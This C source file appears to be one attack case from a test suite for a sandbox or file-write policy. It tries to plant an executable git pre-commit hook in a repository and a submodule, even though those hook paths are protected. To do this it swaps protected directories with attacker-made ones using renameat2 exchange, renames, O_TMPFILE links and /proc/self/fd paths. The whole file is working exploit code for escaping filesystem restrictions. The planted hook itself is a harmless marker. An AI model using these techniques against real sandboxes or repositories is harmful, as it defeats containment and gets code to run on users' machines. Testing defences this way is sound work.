// title: exchange what is protected for something of one's own
// kind: write
// git: yes
#include "attack.h"

static char planted[PATH_MAX + 64];

static void put(const char* path) {
  int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0755);
  if (fd >= 0 && write(fd, planted, strlen(planted)) > 0) close(fd);
}

// What works stays as it is.
static void end_if_planted(void) {
  const char* hooks[] = {".git/hooks/pre-commit", "sub/.git/hooks/pre-commit"};
  for (int i = 0; i < 2; i++) {
    char text[PATH_MAX + 64] = "";
    int fd = open(hooks[i], O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof text - 1) > 0 && strcmp(text, planted) == 0) exit(0);
    if (fd >= 0) close(fd);
  }
}

static void attack(void) {
  const char* names[] = {".git/hooks/pre-commit", ".git/hooks", ".git", "sub/.git/hooks", "sub/.git", "sub"};
  const char* ours[] = {"evil/pre-commit", "evil/hooks", "evil", "evil/hooks", "evil", "evil/sub"};
  snprintf(planted, sizeof planted, "#!/bin/sh\ntouch %s\n", get("ran"));
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    for (int way = 0; way < 3; way++) {
      if (system("rm -rf evil; cp -a template evil && mkdir -p evil/hooks evil/sub && cp -a template evil/sub/.git && "
                 "mkdir -p evil/sub/.git/hooks") != 0)
        return;
      put("evil/pre-commit");
      put("evil/hooks/pre-commit");
      put("evil/sub/.git/hooks/pre-commit");
      if (way == 1) syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, "aside", 0);
      syscall(SYS_renameat2, AT_FDCWD, ours[i], AT_FDCWD, names[i], way == 0 ? 2 /* RENAME_EXCHANGE */ : 0);
      end_if_planted();
      int temporary = open(".", O_TMPFILE | O_RDWR, 0755);
      if (temporary < 0 || write(temporary, planted, strlen(planted)) < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", temporary);
      linkat(AT_FDCWD, path, AT_FDCWD, "sub/.git/hooks/pre-commit", AT_SYMLINK_FOLLOW);
      linkat(temporary, "", AT_FDCWD, ".git/hooks/pre-commit", AT_EMPTY_PATH);
      close(temporary);
    }
  }
}
